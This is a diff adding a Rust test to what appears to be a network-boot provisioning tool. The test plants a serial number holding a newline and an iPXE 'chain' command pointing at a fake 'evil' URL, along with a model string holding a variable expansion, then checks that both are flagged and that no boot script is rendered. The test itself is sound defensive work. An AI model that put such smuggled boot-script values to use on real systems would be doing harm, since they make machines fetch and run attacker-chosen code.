@@ -304,3 +304,42 @@ fn snapshot(dir: &std::path::Path) -> Vec<(String, Vec<u8>)> {
     out.sort();
     out
 }
+
+#[test]
+fn bmc_text_with_a_newline_never_reaches_a_script() {
+    let site = Site::example();
+    let id = crate::support::id_of(&site, "hv-c01");
+    site.edit_inventory(|inv| {
+        let n = inv.nodes.iter_mut().find(|n| n.id == id).unwrap();
+        n.serial = Some("ABC\nchain http://127.0.0.9/evil".into());
+        n.model = Some("R750 ${net0/mac}".into());
+    });
+    let r = site.run(&["--output", "json", "check", "--site", "{site}"]);
+    assert_eq!(r.code, 1, "{}", r.stderr);
+    let v: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
+    let hits: Vec<&serde_json::Value> = v["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["code"] == "untrusted-text")
+        .collect();
+    assert_eq!(hits.len(), 2, "{hits:?}");
+    assert!(
+        hits.iter()
+            .any(|f| f["what"].as_str().unwrap().starts_with("serial"))
+    );
+    assert!(
+        hits.iter()
+            .any(|f| f["what"].as_str().unwrap().starts_with("model"))
+    );
+    let out = site.tmp.path().join("out");
+    let r = site.run(&[
+        "render",
+        "--site",
+        "{site}",
+        "--out",
+        &out.display().to_string(),
+    ]);
+    assert_eq!(r.code, 1, "nothing is rendered: {}", r.stdout);
+    assert!(!out.join("nodes/hv-c01/boot.ipxe").exists());
+}
